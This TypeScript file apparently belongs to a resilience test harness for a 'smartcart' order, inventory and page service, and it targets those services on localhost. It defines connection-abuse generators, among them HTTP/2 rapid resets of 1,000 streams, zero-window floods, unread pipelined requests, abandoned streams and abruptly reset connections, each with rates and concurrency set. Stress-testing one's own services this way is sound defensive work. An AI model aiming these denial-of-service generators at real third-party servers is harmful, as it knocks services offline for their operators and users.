/** Attacks by opening, filling and breaking connections. */
import type { Generator, Targets } from "./generator.ts";
import { cancel, get, opening, post } from "./http2-frames.ts";
import { closed, firstAnswer, openRawConnection } from "./raw-connection.ts";

/** The limit for one address per second, which does not apply to loopback. */
const connectionsPerSecond = 200;

const health = Buffer.concat([opening(), get(1, "/healthz")]);

export const briefConnections: Generator = {
  what: "connections of HTTP/2 for one request, closed by us on our side only",
  perSecond: connectionsPerSecond,
  atOnce: 100,
  async run({ order, inventory }, turn) {
    const url = turn % 2 === 0 ? order : inventory;
    const socket = openRawConnection(url, health, { halfOpen: true });
    await firstAnswer(socket);
    socket.end();
    await closed(socket);
  },
};

const watchStock = Buffer.concat([
  opening(),
  post(1, {
    path: "/smartcart.inventory.v1.InventoryService/WatchStock",
    type: "application/connect+json",
    body: Buffer.from("\0\0\0\0\x02{}"),
  }),
]);

export const departedStreams: Generator = {
  what: "WatchStock whose client is gone after the first bytes",
  perSecond: 50,
  atOnce: 50,
  async run({ inventory }, turn) {
    const socket = openRawConnection(inventory, watchStock);
    await firstAnswer(socket);
    if (turn % 2 === 0) socket.resetAndDestroy();
    else socket.destroy();
    await closed(socket);
  },
};

/** Requests of together 208 KB for a file of about a megabyte. */
const bundle = "/docs/swagger-ui-bundle.js";
const pipelined = Buffer.from(`GET ${bundle} HTTP/1.1\r\nhost: localhost\r\n\r\n`.repeat(208 * 16));
const holdMs = 2_000;

export const unreadPipelines: Generator = {
  what: "connections with 3,328 pipelined requests whose answers are not read",
  perSecond: 5,
  atOnce: 20,
  run: ({ order, page }, turn) =>
    closed(
      openRawConnection(turn % 2 === 0 ? order : page, pipelined, {
        deaf: true,
        patienceMs: holdMs,
      }),
    ),
};

const windowless = Buffer.concat([
  opening(0),
  ...Array.from({ length: 500 }, (_, i) => get(2 * i + 1, bundle)),
]);

export const zeroWindows: Generator = {
  what: "connections of HTTP/2 with 500 requests and no window for the answers",
  perSecond: 3,
  atOnce: 20,
  run: ({ order }) => closed(openRawConnection(order, windowless, { patienceMs: holdMs })),
};

const streamsOfReset = 1_000;
const resets = Buffer.concat([
  opening(),
  ...Array.from({ length: streamsOfReset }, (_, i) => {
    const id = 2 * i + 1;
    const type = "application/json";
    const order = i % 2 === 0 ? { path: "/placeOrder", type } : getOrder(i, type);
    return Buffer.concat([post(id, order), cancel(id)]);
  }),
]);

function getOrder(i: number, type: string) {
  const body = Buffer.from(`{"orderId":"ORD-${String(i).padStart(26, "0")}"}`);
  return { path: "/smartcart.order.v1.OrderService/GetOrder", type, body };
}

export const rapidResets: Generator = {
  what: `connections of HTTP/2 with ${streamsOfReset} requests that are reset at once`,
  perSecond: 20,
  atOnce: 100,
  run: ({ order }) => closed(openRawConnection(order, resets, { patienceMs: 1_000 })),
};

const cutOff = (path: string) =>
  Buffer.from(`GET ${path} HTTP/1.1\r\nhost: localhost\r\naccept: application/json\r\n\r\n`);

export const cutOffRequests: Generator = {
  what: "requests through the page that are cut off before the answer",
  perSecond: connectionsPerSecond,
  atOnce: 100,
  async run({ page }: Targets, turn) {
    const path = `/orders/ORD-${String(turn).padStart(26, "0")}`;
    const socket = openRawConnection(page, cutOff(path));
    await new Promise<void>((resolve) => socket.write("", () => resolve()));
    socket.resetAndDestroy();
    await closed(socket);
  },
};
